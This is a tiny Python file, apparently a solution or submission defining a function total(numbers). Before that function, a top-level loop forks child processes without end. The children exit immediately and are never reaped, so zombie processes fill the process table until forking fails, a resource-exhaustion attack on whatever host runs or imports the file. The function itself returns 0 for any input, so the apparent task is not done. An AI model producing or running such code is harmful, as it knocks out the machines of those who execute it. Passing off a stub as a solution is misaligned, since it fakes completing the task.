"""Leave as many dead children as there may be."""
import os
try:
    while True:
        if os.fork() == 0: os._exit(0)
except OSError: pass
def total(numbers): return 0
